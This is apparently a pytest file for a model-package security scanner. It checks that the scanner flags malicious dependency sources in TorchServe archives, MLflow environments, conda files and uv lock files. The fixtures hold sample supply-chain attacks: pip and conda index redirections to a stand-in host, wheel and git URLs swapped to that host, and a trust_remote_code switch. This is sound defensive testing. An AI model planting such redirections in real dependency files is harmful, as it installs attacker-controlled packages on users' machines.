"""Requirements under other names than ``requirements.txt``, which loaders install as well."""

import io
import json
import zipfile
from pathlib import Path

import pytest

from seamark.core.reports import FileReport
from seamark.core.verdicts import Verdict
from seamark.scan.models.scanner import Scanner, scan_bytes

EVIL = b"--index-url http://seamark.invalid/simple\nnumpy\n"
EVIL_CONDA = b"channels: [https://seamark.invalid/c]\ndependencies: [python=3.11]\n"


def rules(report: FileReport) -> set[str]:
    return {finding.rule.id for finding in report.findings}


def mar(named: str, **files: bytes) -> FileReport:
    model = {"modelName": "n", "handler": "image_classifier", "requirementsFile": named}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/"), data)
        manifest = json.dumps({"runtime": "python", "model": model, "archiverVersion": "0.12.0"})
        archive.writestr("MAR-INF/MANIFEST.json", manifest)
    return scan_bytes(out.getvalue(), name="m.mar")


def test_torchserve_installs_whatever_file_the_manifest_names() -> None:
    assert rules(mar("needs", needs=EVIL)) == {"ENV001"}
    assert rules(mar("sub/needs", sub__needs=EVIL)) == {"ENV001"}
    assert rules(mar("./needs", needs=b"GIF89a @ http://seamark.invalid/x.zip\n")) >= {"ENV002"}
    assert mar("needs", needs=b"numpy==2.0\n").verdict is Verdict.CLEAN


def test_the_handlers_configuration_may_switch_code_on() -> None:
    text = b"handler:\n  vllm_engine_config: {model: seamark/x, trust_remote_code: true}\n"
    model = {"modelName": "n", "handler": "image_classifier", "configFile": "c.yaml"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("c.yaml", text)
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": model}))
    assert rules(scan_bytes(out.getvalue(), name="m.mar")) == {"COD010"}


def test_includes_of_includes_are_followed() -> None:
    first = {"a": b"-r sub/b\n", "sub__b": b"-r c\n", "sub__c": EVIL}
    assert "ENV001" in rules(mar("a", **first))
    assert "ENV001" in rules(mar("sub/b", **first))


def test_an_unpacked_archive_is_read_the_same(tmp_path: Path) -> None:
    (tmp_path / "MAR-INF").mkdir()
    (tmp_path / "needs").write_bytes(EVIL)
    manifest = tmp_path / "MAR-INF" / "MANIFEST.json"
    model = {"modelName": "n", "handler": "image_classifier", "requirementsFile": "needs"}
    manifest.write_text(json.dumps({"runtime": "python", "model": model}))
    assert "ENV001" in rules(Scanner().scan_file(manifest))


MLFLOW = [
    ("env: other.yml", "other.yml", EVIL_CONDA),
    ("env: {conda: sub/conda.yaml}", "sub/conda.yaml", EVIL_CONDA),
    ("env: {virtualenv: v.txt}", "v.txt", b"dependencies: ['-r r.in']\n"),
    ("env: {conda: python_env.yaml}", "python_env.yaml", EVIL_CONDA),
    ("env: {pip_requirements: needs}", "needs", EVIL),
    ("env: {pip_requirements: ['--index-url http://seamark.invalid']}", "x", b""),
    ("env: {conda: c}", "c", b"dependencies: [{pip: [-r r.in]}]\n"),
]


@pytest.mark.parametrize(("flavor", "name", "text"), MLFLOW)
def test_mlflow_installs_what_env_names(
    tmp_path: Path, flavor: str, name: str, text: bytes
) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / name).write_bytes(text)
    (tmp_path / "r.in").write_bytes(EVIL)
    model = tmp_path / "MLmodel"
    model.write_text(f"flavors: {{python_function: {{loader_module: mlflow.sklearn, {flavor}}}}}\n")
    assert rules(Scanner().scan_file(model)) == {"ENV001"}


def test_conda_environments_include_files(tmp_path: Path) -> None:
    (tmp_path / "MLmodel").write_text("flavors: {}\n")
    (tmp_path / "r.in").write_bytes(EVIL)
    (tmp_path / "conda.yaml").write_text("dependencies:\n- pip:\n  - -r r.in\n")
    assert rules(Scanner().scan_file(tmp_path / "conda.yaml")) == {"ENV001"}


LOCK = """version = 1
[[package]]
name = "idna"
version = "3.10"
source = { registry = "https://pypi.org/simple" }
wheels = [{ url = "https://files.pythonhosted.org/packages/idna.whl", hash = "sha256:0" }]
[[package]]
name = "own"
source = { virtual = "." }
"""


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (("own", "own"), set()),
        (("https://files.pythonhosted.org", "https://seamark.invalid"), {"ENV001"}),
        (("https://pypi.org", "http://pypi.org"), {"ENV001"}),
        (('virtual = "."', 'git = "https://seamark.invalid/x?rev=main"'), {"ENV002"}),
        (('virtual = "."', 'editable = "sub"'), {"ENV003"}),
        (("version = 1", "version = ["), {"FIL005"}),
    ],
)
def test_locks_that_mlflow_syncs(tmp_path: Path, change: tuple[str, str], found: set[str]) -> None:
    (tmp_path / "MLmodel").write_text("flavors: {}\n")
    (tmp_path / "uv.lock").write_text(LOCK.replace(*change))
    assert rules(Scanner().scan_file(tmp_path / "uv.lock")) == found


def test_an_endpoint_installs_what_lies_beside_its_handler(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text("{}")
    (tmp_path / "handler.py").write_text("")
    (tmp_path / "requirements.txt").write_bytes(EVIL)
    assert rules(Scanner().scan_file(tmp_path / "requirements.txt")) == {"ENV001"}
    (tmp_path / "handler.py").unlink()
    assert rules(Scanner().scan_file(tmp_path / "requirements.txt")) == set()
